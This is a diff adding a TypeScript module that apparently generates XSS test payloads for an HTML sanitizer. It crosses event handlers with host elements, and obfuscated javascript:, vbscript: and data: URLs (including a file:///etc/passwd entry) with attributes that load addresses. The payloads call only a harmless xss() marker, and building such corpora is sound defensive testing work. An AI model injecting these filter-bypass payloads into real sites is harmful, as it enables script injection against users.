@@ -1,0 +1,99 @@
+const HANDLERS =
+  'abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload beforexrselect begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error filterchange finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel'.split(
+    ' ',
+  );
+
+/** Elements that are allowed, ones that are not, ones of other namespaces, and one that nobody knows. */
+const HOSTS = [
+  (handler: string) => `<b ${handler}>x</b>`,
+  (handler: string) => `<a href=/x ${handler}>x</a>`,
+  (handler: string) => `<span ${handler} tabindex=1 autofocus>x</span>`,
+  (handler: string) => `<div ${handler} contenteditable>x</div>`,
+  (handler: string) => `<img src=x ${handler}>`,
+  (handler: string) => `<input autofocus ${handler}>`,
+  (handler: string) => `<video src=x autoplay ${handler}></video>`,
+  (handler: string) => `<iframe src=x ${handler}></iframe>`,
+  (handler: string) => `<body ${handler}>`,
+  (handler: string) => `<details open ${handler}>x</details>`,
+  (handler: string) => `<svg ${handler}><animate ${handler} /></svg>`,
+  (handler: string) => `<math ${handler}><mi ${handler}>x</mi></math>`,
+  (handler: string) => `<x-y ${handler}>x</x-y>`,
+];
+
+const CODE = 'xss()';
+const BASE64 = Buffer.from(`<script>parent.${CODE}</script>`).toString('base64');
+
+/** Addresses that run code, as filters have been known to miss them. */
+const ADDRESSES = [
+  `javascript:${CODE}`,
+  `JaVaScRiPt:${CODE}`,
+  ` javascript:${CODE}`,
+  `\u0001javascript:${CODE}`,
+  `\u00a0javascript:${CODE}`,
+  `\u2028javascript:${CODE}`,
+  `\ufeffjavascript:${CODE}`,
+  `java\tscript:${CODE}`,
+  `java\nscript:${CODE}`,
+  `java\r\nscript:${CODE}`,
+  `java&Tab;script:${CODE}`,
+  `java&NewLine;script:${CODE}`,
+  `java&#x0A;script&colon;${CODE}`,
+  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CODE}`,
+  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${CODE}`,
+  `&#0000106avascript:${CODE}`,
+  `java\u0000script:${CODE}`,
+  `javascript\t:${CODE}`,
+  `javascript://%0a${CODE}`,
+  `javascript://example.com/%0d%0a${CODE}`,
+  `javascript:/*https://*/${CODE}`,
+  `https:javascript:${CODE}\u0000`,
+  `vbscript:${CODE}`,
+  `livescript:${CODE}`,
+  `mocha:${CODE}`,
+  `view-source:javascript:${CODE}`,
+  `feed:javascript:${CODE}`,
+  `data:text/html,<script>parent.${CODE}</script>`,
+  `data:text/html;base64,${BASE64}`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
+  `DATA:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${CODE}</script>`,
+  'blob:https://example.com/0',
+  'filesystem:https://example.com/temporary/x',
+  'file:///etc/passwd',
+  'ws://example.com/',
+  'intent://example.com/#Intent;end',
+  '//example.com/',
+];
+
+/** Where an address may stand. */
+const PLACES = [
+  (url: string) => `<a href="${url}">x</a>`,
+  (url: string) => `<area href="${url}">`,
+  (url: string) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
+  (url: string) => `<input type=image src="${url}" formaction="${url}">`,
+  (url: string) => `<iframe src="${url}"></iframe>`,
+  (url: string) => `<frame src="${url}">`,
+  (url: string) => `<object data="${url}" codebase="${url}"></object>`,
+  (url: string) => `<embed src="${url}">`,
+  (url: string) => `<img src="${url}" srcset="${url} 1x" longdesc="${url}">`,
+  (url: string) => `<video src="${url}" poster="${url}"><source src="${url}"></video>`,
+  (url: string) => `<link rel=stylesheet href="${url}">`,
+  (url: string) => `<base href="${url}">`,
+  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (url: string) => `<script src="${url}"></script>`,
+  (url: string) => `<table background="${url}"><td background="${url}">x</td></table>`,
+  (url: string) => `<b style="background:url(${url})">x</b>`,
+  (url: string) => `<blockquote cite="${url}">x</blockquote>`,
+  (url: string) => `<svg><a xlink:href="${url}" href="${url}"><text>x</text></a></svg>`,
+  (url: string) => `<svg><use xlink:href="${url}" /><image href="${url}" /></svg>`,
+  (url: string) => `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`,
+];
+
+/** Every handler on every host: one list of payloads a handler. */
+export const HANDLER_PAYLOADS: readonly (readonly string[])[] = HANDLERS.map((name) =>
+  HOSTS.map((host) => host(`on${name}="${CODE}"`)),
+);
+
+/** Every address in every place: one list of payloads an address. */
+export const ADDRESS_PAYLOADS: readonly (readonly string[])[] = ADDRESSES.map((url) =>
+  PLACES.map((place) => place(url)),
+);
